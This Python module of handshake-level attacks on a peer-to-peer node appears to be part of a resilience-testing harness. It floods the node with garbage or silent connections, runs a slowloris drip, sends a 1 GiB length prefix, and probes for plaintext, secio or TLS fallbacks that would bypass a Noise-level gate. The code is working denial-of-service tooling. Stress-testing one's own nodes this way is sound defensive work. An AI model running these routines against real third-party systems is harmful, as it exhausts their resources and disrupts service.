"""Attacks by whoever reaches the port, before or instead of a handshake."""

from __future__ import annotations

from contextlib import suppress

from wire import VERSION, Line, token

from .target import FAILED, Crowd, Target

GARBAGE = (
    b"GET / HTTP/1.1\r\nHost: victim\r\n\r\n",
    bytes(5000),
    b"\xff" * 5000,
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(500),  # a TLS hello
    VERSION + b"\x02\xff\n",
    VERSION + b"\x03ls\n" * 300,
)
ENDLESS = b"\x80\x80\x80\x80\x04"  # a length of a GiB
SECURITY = ("/plaintext/2.0.0", "/secio/1.0.0", "/tls/1.0.0")


def garbage(target: Target) -> None:
    """400 connections that say something else, held open; and again."""

    def one(number: int) -> Line:
        line = target.line(number)
        line.write(GARBAGE[number % len(GARBAGE)])
        return line

    Crowd(target, 400, one).hold()


def silent(target: Target) -> None:
    """500 connections that say nothing."""
    Crowd(target, 500, target.line).hold()


def slow_loris(target: Target) -> None:
    """300 connections that say the right thing, at a byte a second."""
    said: dict[Line, int] = {}
    words = VERSION + token("/noise") + b"\x00\x20" + bytes(32)

    def drip(line: Line) -> None:
        place = said.get(line, 0)
        line.write(words[place : place + 1])
        said[line] = place + 1

    Crowd(target, 300, target.line).hold(drip, every=1.0)


def endless_length(target: Target) -> None:
    """A first token of a GiB, and the bytes for it."""

    def one(number: int) -> None:
        line = target.line(number)
        line.patience(10.0)  # a victim that takes it all is slow to do so
        with suppress(*FAILED):
            line.write(ENDLESS)
            for _ in range(256):
                line.write(bytes(1 << 20))
                target.count("megabytes")
            target.on()
            while target.going(0.5) and not line.hung_up(0.0):
                pass
        line.close()

    target.keep_on(one)


def other_security(target: Target) -> None:
    """Plaintext, secio and TLS instead of Noise: a gate inside Noise would never see who comes in that way."""
    agreed = target.saw["agreed"] = []

    def one(number: int) -> None:
        protocol = SECURITY[number % len(SECURITY)]
        line = target.line(number)
        line.patience(5.0)
        line.write(VERSION + token(protocol))
        line.read(len(VERSION))
        if line.read(3) != token("na")[:3] and protocol not in agreed:
            agreed.append(protocol)
        line.close()

    for number in range(len(SECURITY)):
        with suppress(*FAILED):
            one(number)
    target.on()
    target.keep_on(one, pause=0.05)
